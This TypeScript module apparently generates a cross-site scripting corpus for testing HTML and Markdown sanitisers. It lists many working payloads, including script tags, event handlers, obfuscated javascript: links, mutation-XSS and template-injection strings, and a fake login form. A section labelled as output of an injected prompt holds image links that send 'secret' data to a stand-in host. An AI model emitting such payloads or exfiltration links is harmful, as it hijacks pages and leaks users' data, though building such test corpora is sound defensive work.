/**
 * Ways to run code, to load something or to change the page by a text: whichever works sets
 * `globalThis.hacked`, opens a dialog, or asks `elsewhere.example` for something. Own writing: each
 * vector in several spellings and places.
 */
export function xssCorpus(): string[] {
  return [...new Set([...markup(), ...links(), ...images(), ...templates(), ...brokenOut()])]
}

const CODE = 'globalThis.hacked=1'
const ELSEWHERE = 'https://elsewhere.example'

/** Elements that run or load something, in spellings that careless filters let through. */
function markup(): string[] {
  const elements = [
    `<script>${CODE}</script>`,
    `<script src="${ELSEWHERE}/a.js"></script>`,
    `<script type="module">import "${ELSEWHERE}/b.js"</script>`,
    `<svg><script>${CODE}</script></svg>`,
    `<svg><script href="${ELSEWHERE}/c.js"/></svg>`,
    `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
    `<iframe srcdoc="&lt;script&gt;parent.hacked=1&lt;/script&gt;"></iframe>`,
    `<iframe src="javascript:parent.hacked=1"></iframe>`,
    `<object data="data:text/html,<script>parent.hacked=1</script>"></object>`,
    `<embed src="${ELSEWHERE}/d.swf">`,
    `<base href="${ELSEWHERE}/">`,
    `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/e">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${CODE}">`,
    `<link rel="stylesheet" href="${ELSEWHERE}/f.css">`,
    `<link rel="preload" as="image" href="${ELSEWHERE}/g">`,
    `<style>@import "${ELSEWHERE}/h.css"</style>`,
    `<style>*{background:url(${ELSEWHERE}/i)}</style>`,
    `<p style="background:url(${ELSEWHERE}/j)">a</p>`,
    `<div style="position:fixed;inset:0;z-index:9999999999">covered</div>`,
    `<form action="${ELSEWHERE}/k"><input name="password"><button>Log in</button></form>`,
    `<form id="a"></form><button form="a" formaction="javascript:${CODE}">b</button>`,
    `<isindex action="javascript:${CODE}" type="submit">`,
    `<a href="javascript:${CODE}">a</a>`,
    `<a href="${ELSEWHERE}" ping="${ELSEWHERE}/l">a</a>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${CODE}">a</maction></math>`,
    `<svg><a xlink:href="javascript:${CODE}"><text>a</text></a></svg>`,
    `<svg><animate attributeName="href" values="javascript:${CODE}"/></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='a' onload='${CODE}'/>#a"/></svg>`,
    `<svg><image href="${ELSEWHERE}/m"/></svg>`,
    `<video poster="${ELSEWHERE}/n"></video>`,
    `<table background="${ELSEWHERE}/o"><tr><td>a</td></tr></table>`,
    `<template shadowrootmode="open"><script>${CODE}</script></template>`,
    `<chatbot-widget server="${ELSEWHERE}" open></chatbot-widget>`,
    ...handlers(),
    ...misparsed(),
  ]
  const runs = `<img src=x onerror="${CODE}">`
  return [
    ...elements,
    ...elements.map((element) => element.replaceAll(/<\/?[a-z]+/g, (tag) => tag.toUpperCase())),
    runs.replace(/ /g, '/'),
    runs.replace(/ /g, '\t'),
    runs.replace(/ /g, '\n'),
    runs.replace('onerror', 'oNeRrOr'),
    runs.replace('onerror=', 'onerror\t=\n'),
    runs.replaceAll('"', "'"),
    runs.replaceAll('"', '`'),
    runs.replaceAll('"', ''),
    runs.slice(0, -1),
    runs.replace('<', '<\u200b'),
    runs.replace('<', '&lt;').replace('>', '&gt;'),
    runs.replace('<', '&#60;').replace('>', '&#x3e;'),
    runs.replace('<', '\\u003c').replace('>', '\\u003e'),
    runs.replace('<', '%3C').replace('>', '%3E'),
    runs.replace('<', '\uff1c').replace('>', '\uff1e'),
    runs.replace('<', '<<'),
    `&lt;script&gt;${CODE}&lt;/script&gt;`,
    `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  ]
}

function handlers(): string[] {
  const elements = [
    'img src=x onerror',
    'img srcset=x onerror',
    'image src=x onerror',
    'svg onload',
    'svg/onload',
    'body onload',
    'body onpageshow',
    'video src=x onerror',
    'audio src=x onerror',
    'video><source onerror',
    'details open ontoggle',
    'input autofocus onfocus',
    'select autofocus onfocus',
    'textarea autofocus onfocus',
    'button autofocus onfocus',
    'div tabindex=0 autofocus onfocus',
    'marquee onstart',
    'iframe onload',
    'object data=x onerror',
    'style onload',
    'link rel=stylesheet href=x onerror',
    'script src=x onerror',
    'svg><animate attributeName=x dur=1s onbegin',
    'svg><set attributeName=x onbegin',
    'div style="animation:enter 1s" onanimationstart',
    'p onmouseover',
    'a href=x onclick',
    'div onpointerenter',
    'x onwheel',
    'div contenteditable onbeforeinput',
    'div popover onbeforetoggle',
  ]
  return elements.map((element) => `<${element}="${CODE}">`)
}

/** Texts that become something else when they are parsed a second time. */
function misparsed(): string[] {
  const image = `<img src=x onerror=${CODE}>`
  return [
    `<noscript><p title="</noscript>${image}">`,
    `<svg></p><style><a id="</style>${image}">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<!--><${image.slice(1)}-->`,
    `<![CDATA[><${image.slice(1)}]]>`,
    `<textarea></textarea>${image}</textarea>`,
    `<title></title>${image}</title>`,
    `<xmp></xmp>${image}</xmp>`,
    `<plaintext>${image}`,
    `<?xml-stylesheet href="javascript:${CODE}"?>`,
    `<a href="${ELSEWHERE}/?a=`,
    `<img src='${ELSEWHERE}/?a=`,
    `<button form=x formaction='${ELSEWHERE}/?a=`,
    `<textarea name="a">`,
    `<option>`,
  ]
}

/** Links in the syntaxes of Markdown to addresses that must not be followed. */
function links(): string[] {
  const addresses = [
    `javascript:${CODE}`,
    `JAVASCRIPT:${CODE}`,
    `jAvAsCrIpT:${CODE}`,
    ` javascript:${CODE}`,
    `\u0001javascript:${CODE}`,
    `\u00a0javascript:${CODE}`,
    `\u200bjavascript:${CODE}`,
    `java\tscript:${CODE}`,
    `java\nscript:${CODE}`,
    `java\rscript:${CODE}`,
    `javascript\t:${CODE}`,
    `javascript\n:${CODE}`,
    `java\\script:${CODE}`,
    `javascript\\:${CODE}`,
    `javascript&colon;${CODE}`,
    `javascript&#58;${CODE}`,
    `javascript&#x3A;${CODE}`,
    `javascript&#0000058${CODE}`,
    `&#106;avascript:${CODE}`,
    `&#x6a;&#x61;vascript:${CODE}`,
    `java&Tab;script:${CODE}`,
    `java&#9;script:${CODE}`,
    `java&NewLine;script:${CODE}`,
    `java&#10;script:${CODE}`,
    `javascript%3A${CODE}`,
    `%6aavascript:${CODE}`,
    `ｊavascript:${CODE}`,
    `javascript://elsewhere.example/%0a${CODE}`,
    `javascript:void(${CODE})`,
    `view-source:javascript:${CODE}`,
    `feed:javascript:${CODE}`,
    `jar:javascript:${CODE}!/`,
    `vbscript:${CODE}`,
    `VBScript:msgbox(1)`,
    `livescript:${CODE}`,
    `data:text/html,<script>${CODE}</script>`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `DATA:image/svg+xml,<svg onload=${CODE}>`,
    `data:,${CODE}`,
    `blob:${ELSEWHERE}/a`,
    `file:///etc/passwd`,
    `filesystem:${ELSEWHERE}/a`,
    `about:blank`,
    `intent://elsewhere.example#Intent;end`,
    `//elsewhere.example/a`,
    `/\\elsewhere.example/a`,
    `\\\\elsewhere.example\\a`,
    `?a`,
    `#a`,
  ]
  const syntaxes: ((address: string) => string)[] = [
    (address) => `[a](${address})`,
    (address) => `[a](<${address}>)`,
    (address) => `[a](${address} "title")`,
    (address) => `![a](${address})`,
    (address) => `<${address}>`,
    (address) => `[a]: ${address}\n[a]`,
    (address) => address,
  ]
  return [
    ...addresses.flatMap((address, index) =>
      // All addresses as a link, and each in some of the other syntaxes.
      [0, 1 + (index % 6), 1 + ((index + 2) % 6)].map((place) => syntaxes[place]!(address)),
    ),
    `[**a** \`b\`](javascript:${CODE})`,
    `[a [b](javascript:${CODE})](javascript:${CODE})`,
    `[![a](javascript:${CODE})](javascript:${CODE})`,
    `[a](https:javascript:${CODE}) [a](javascript:https://x.y)`,
    `<javascript:${CODE}@x.y>`,
    `[a](mailto:javascript:${CODE})`,
  ]
}

/** What a model is made to write by an injected prompt, to carry the conversation away. */
function images(): string[] {
  return [
    `![](${ELSEWHERE}/?q=secret)`,
    `![a](${ELSEWHERE}/a.png?q=secret "title")`,
    `![a](<${ELSEWHERE}/a b?q=secret>)`,
    `[![a](${ELSEWHERE}/a.png)](${ELSEWHERE}/b)`,
    `![a][b]\n\n[b]: ${ELSEWHERE}/a.png`,
    `![a](//elsewhere.example/a.png)`,
    `<img src="${ELSEWHERE}/a.png?q=secret">`,
    `<img srcset="${ELSEWHERE}/a.png 2x">`,
    `<picture><source srcset="${ELSEWHERE}/a.png"><img></picture>`,
    `<audio autoplay src="${ELSEWHERE}/a.mp3"></audio>`,
    `<input type="image" src="${ELSEWHERE}/a.png">`,
    `<link rel="dns-prefetch" href="//elsewhere.example">`,
  ]
}

function templates(): string[] {
  return [
    `{{constructor.constructor("${CODE}")()}}`,
    `{{$on.constructor("${CODE}")()}}`,
    `{{{${CODE}}}}`,
    `\${${CODE}}`,
    `#{${CODE}}`,
    `<%= ${CODE} %>`,
    `[[${CODE}]]`,
    `@{${CODE}}`,
    `<div v-html="'<img src=x onerror=${CODE}>'"></div>`,
    `<div ng-app ng-csp>{{$eval.constructor('${CODE}')()}}</div>`,
    `<div x-data x-init="${CODE}"></div>`,
    `<div hx-get="${ELSEWHERE}/a" hx-trigger="load"></div>`,
    `{"__proto__":{"innerHTML":"<img src=x onerror=${CODE}>"}}`,
  ]
}

/** Out of the places in which a text stands: attributes, cells, fences, headings. */
function brokenOut(): string[] {
  const out = [
    `" onmouseover="${CODE}" x="`,
    `' onfocus='${CODE}' autofocus x='`,
    `"><img src=x onerror=${CODE}>`,
    `'><svg onload=${CODE}>`,
    `--><img src=x onerror=${CODE}>`,
    `]]><img src=x onerror=${CODE}>`,
    `</script><script>${CODE}</script>`,
    `</style><img src=x onerror=${CODE}>`,
    `</textarea><img src=x onerror=${CODE}>`,
    `</title><img src=x onerror=${CODE}>`,
    `\u2028${CODE}\u2029`,
    `');${CODE};('`,
  ]
  const places: ((text: string) => string)[] = [
    (text) => text,
    (text) => `[a](https://x.y "${text}")`,
    (text) => `[a](https://x.y/${text})`,
    (text) => `\`\`\`${text}\ncode\n\`\`\``,
    (text) => `\`\`\`html\n${text}\n\`\`\``,
    (text) => `| ${text} |\n|---|\n| ${text} |`,
    (text) => `- ${text}\n  > # ${text}`,
    (text) => `**${text}** \`${text}\` ~~${text}~~`,
  ]
  return out.flatMap((text, index) => [
    text,
    ...[1, 2, 3].map((step) => places[(index + step * 2) % places.length]!(text)),
  ])
}
